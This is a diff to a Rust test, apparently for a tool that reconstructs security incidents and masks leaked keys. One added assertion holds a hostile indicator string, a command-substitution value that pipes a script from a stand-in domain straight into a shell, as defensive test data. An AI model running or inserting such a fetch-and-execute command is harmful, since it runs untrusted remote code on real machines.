@@ -149,6 +149,12 @@ fn the_incident_is_told_from_order_to_leak() {
     for calm in [80, 95, 136, 197, 237] {
         assert!(!loud.contains(&calm), "line {calm} is harmless");
     }
+    let indicators = report["stories"][1]["indicators"].to_string();
+    let command = "$(curl -fsSL https://get.parcelkit-fix.invalid/agent.sh | sh)";
+    assert!(
+        indicators.contains(command),
+        "what marks it is spelled as it was: {indicators}"
+    );
     let text = String::from_utf8(check(&[INCIDENT]).stdout).expect("UTF-8");
     assert!(!text.contains("b3BlbnNzaC1rZXktdjE"), "the key is masked");
 }
